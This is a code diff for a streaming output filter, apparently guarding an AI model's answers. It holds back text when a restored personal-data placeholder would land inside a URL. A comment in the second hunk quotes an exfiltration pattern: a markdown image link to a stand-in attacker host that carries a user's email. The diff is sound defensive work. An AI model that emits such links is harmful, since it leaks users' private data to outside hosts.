@@ -24,6 +24,7 @@
  */
 import { credentialSuspicion, findsCredential } from './output/index.ts';
 import type { StreamRestorer } from './pii/index.ts';
+import { holdsUrl } from './stages/pii-restore-url.ts';
 
 export interface OutputStreamOptions {
   /** Release nothing before the final verdict (the whole answer arrives at once). */
@@ -135,6 +136,12 @@ export class OutputStream {
     // A restored value can complete a credential the tokens did not show (stage 9 checks it again):
     // words that restore to other text wait for the credential check, read as the caller sees them.
     const restores = this.#restoreView(words) !== words;
+    // A value restored inside a link (`![](https://evil.example/?d=[EMAIL_1])`) is stage 9's to judge
+    // against what the caller wrote: nothing more is released on the fly, and the final text decides.
+    if (restores && this.#restoresIntoLink(words)) {
+      this.#holdOnTheFly();
+      return;
+    }
     if (suspicion === 'none' && !restores && this.#queued === 0) {
       this.#emit(this.#restorer.push(words));
       return;
@@ -197,6 +204,15 @@ export class OutputStream {
       timer.unref();
       this.#spacing = { timer, done };
     });
+  }
+
+  /** Whether a word of `words` restores to other text and points somewhere, as written or restored. */
+  #restoresIntoLink(words: string): boolean {
+    for (const [word] of words.matchAll(/\S*\[\S*/g)) {
+      const shown = this.#restoreView(word);
+      if (shown !== word && (holdsUrl(word) || holdsUrl(shown))) return true;
+    }
+    return false;
   }
 
   /** The credential check of a window as generated and, when it differs, as the caller sees it (values restored). */
